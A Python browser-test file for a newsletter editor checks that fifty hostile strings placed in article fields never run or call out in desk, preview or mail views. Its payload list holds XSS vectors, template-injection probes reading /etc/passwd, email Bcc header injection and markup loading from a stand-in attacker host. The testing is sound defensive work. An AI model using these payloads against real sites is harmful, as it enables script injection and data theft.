"""Articles written to harm: on the desk, in the preview and in the mail they are only words."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page

from newsletter.articles.article import Article, Image, Tag
from newsletter.issues.blocks import Block, BlockKind
from newsletter.issues.edits import Add, PutBlock, Say
from newsletter.pipeline.edit import edit
from newsletter.store.issues import find_issue
from tests.acceptance.conftest import SiteMaker
from tests.acceptance.site import NOW
from tests.browsers import Chromium
from tests.factories.issues import make_article
from tests.factories.office import NEWS_DESK, Office, open_office

pytestmark = [pytest.mark.browser]

DESK = "/desk/weekly/1"
EVIL = "https://evil.example"

HOSTILE = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    '"><script>window.pwned=1</script>',
    "'><img src=x onerror=window.pwned=1>",
    '" onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1',
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<form action="{EVIL}"><input name=q><button>Go</button></form>',
    f'<base href="{EVIL}/">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    f"<style>@import '{EVIL}/x.css'; * {{ display: none }}</style>",
    f'<p style="background:url({EVIL}/x.png)">styled</p>',
    f'<iframe src="{EVIL}"></iframe>',
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f'<object data="{EVIL}/x"></object>',
    f'<embed src="{EVIL}/x">',
    "<a href='javascript:window.pwned=1'>click</a>",
    "<a href='data:text/html,<script>window.pwned=1</script>'>click</a>",
    "<a href='vbscript:msgbox(1)'>click</a>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<input autofocus onfocus=window.pwned=1>",
    "<textarea autofocus onfocus=window.pwned=1></textarea></textarea>",
    "</textarea><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</option></select><script>window.pwned=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<template><script>window.pwned=1</script></template>",
    "<mj-raw><script>window.pwned=1</script></mj-raw>",
    "</mj-text><mj-text>injected",
    "<mj-include path='/etc/passwd' />",
    "{{ config }} {{ 7 * 7 }} {% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "slot-aaaaaaaaaaaaaaaa-unsubscribe-slot",
    "slot-0123456789abcdef-name-slot",
    "\u202etxt.exe\u202c \u2066hidden\u2069",
    "\u0000\u0008\u001f\ufffe nothing",
    "=?utf-8?q?x=0d=0aBcc:_evil@evil.example?=",
    "line one\r\nBcc: evil@evil.example",
    "<!--[if mso]><script>window.pwned=1</script><![endif]-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "<hx-on hx-get='/audit' hx-trigger='load'>",
    "<div hx-on:load='window.pwned=1' data-hx-get='/sign-out' hx-trigger=load>x</div>",
    "<x onclick=window.pwned=1 style=position:fixed;inset:0>x",
)


def hostile_article(number: int, words: str) -> Article:
    """An article that says so in every field that a stranger fills."""
    schemes = ("javascript:window.pwned=1", "data:text/html,x", f"{EVIL}/{number}")
    return replace(
        make_article(number),
        key=f"hostile-{number}",
        url=schemes[number % 3],
        title=f"{words} {number}",
        summary=words,
        source=words,
        author=words,
        body_html=words,
        body_text=words,
        tags=(Tag(slug="hostile", label=words),),
        image=Image(url=f"javascript:{number}", alt=words) if number % 2 else None,
        published=NOW,
    )


@pytest.fixture(scope="module")
def besieged(new_site: SiteMaker) -> Iterator[Office]:
    """An office whose coming issue holds fifty hostile articles, past every sanitiser."""
    with open_office(Path(new_site("drafted").folder)) as office:
        sections = [s.title for s in office.site.settings.newsletters["weekly"].sections]
        articles = [hostile_article(n, words) for n, words in enumerate(HOSTILE)]
        edit(
            office.site,
            "weekly",
            1,
            [
                *(Add(article=article, section=sections[0]) for article in articles),
                Say(name="intro", text="\n\n".join(HOSTILE)),
                Say(name="subject", text=HOSTILE[1]),
                PutBlock(
                    block=Block(id="b", kind=BlockKind.JOBS, title=HOSTILE[2], text=HOSTILE[3])
                ),
            ],
            editor=HOSTILE[5],
            seen=99,
            now=NOW,
        )
        yield office


def test_there_are_fifty_ways_to_try() -> None:
    """The siege is as large as promised."""
    assert len(set(HOSTILE)) == 50


@pytest.mark.parametrize(
    "address",
    [
        DESK,
        f"{DESK}/preview",
        f"{DESK}/preview?part=text",
        f"{DESK}/preview?part=raw",
        f"{DESK}/preview?scheme=inverted",
        f"{DESK}/publish",
        f"{DESK}/frame",
        f"{DESK}/frame?mark=40",
        "/desk",
    ],
)
def test_nothing_runs_and_nothing_is_fetched(
    besieged: Office, chromium: Chromium, address: str
) -> None:
    """No script, no dialog, no request to a stranger but for pictures; the page stays where it is."""

    def visit(browser: Browser) -> tuple[list[str], list[str], str]:
        context = besieged.sit_down(browser, NEWS_DESK)
        asked: list[str] = []
        trouble: list[str] = []
        context.on(
            "request",
            lambda request: asked.append(f"{request.resource_type} {request.url}"),
        )
        page = context.new_page()
        page.on("dialog", lambda dialog: trouble.append(dialog.message))
        answer = page.goto(address)
        trouble += [] if answer is not None and answer.ok else ["the page is no page"]
        open_everything(page)
        for frame in page.frames:
            trouble += [f"ran in {frame.url}"] * bool(frame.evaluate("window.pwned"))
        where = urlsplit(page.url).path
        context.close()
        return asked, trouble, where

    asked, trouble, where = chromium.run(visit)
    assert trouble == []
    assert where == urlsplit(address).path
    foreign = [entry for entry in asked if "evil.example" in entry]
    assert [entry for entry in foreign if not entry.startswith("image ")] == []


def open_everything(page: Page) -> None:
    """Open every fold and point at every card, as a curious editor does."""
    for details in page.locator("details").all():
        details.evaluate("element => element.open = true")
    for card in page.locator("li.item").all()[:60:6]:
        card.hover(position={"x": 60, "y": 12})


def test_the_mail_itself_says_only_words(besieged: Office, chromium: Chromium) -> None:
    """What readers would get holds no element or address that does anything."""

    def read(browser: Browser) -> list[str]:
        context = besieged.sit_down(browser, NEWS_DESK)
        page = context.new_page()
        page.goto(f"{DESK}/frame")
        found: list[str] = page.evaluate(
            """() => [...document.querySelectorAll('*')].flatMap(element => [
                ...(['SCRIPT', 'IFRAME', 'FORM', 'OBJECT', 'EMBED', 'BASE', 'LINK', 'SVG', 'INPUT']
                    .includes(element.tagName.toUpperCase()) ? [element.outerHTML] : []),
                ...[...element.attributes].filter(a => a.name.startsWith('on')
                    || /^\\s*(javascript|data|vbscript):/i.test(a.value)).map(a => a.name + '=' + a.value),
            ])"""
        )
        context.close()
        return found

    assert chromium.run(read) == []
    with besieged.site.database.transaction(read_only=True) as connection:
        issue = find_issue(connection, "weekly", 1)
    assert sum(item.article.key.startswith("hostile") for item in issue.items) == 50
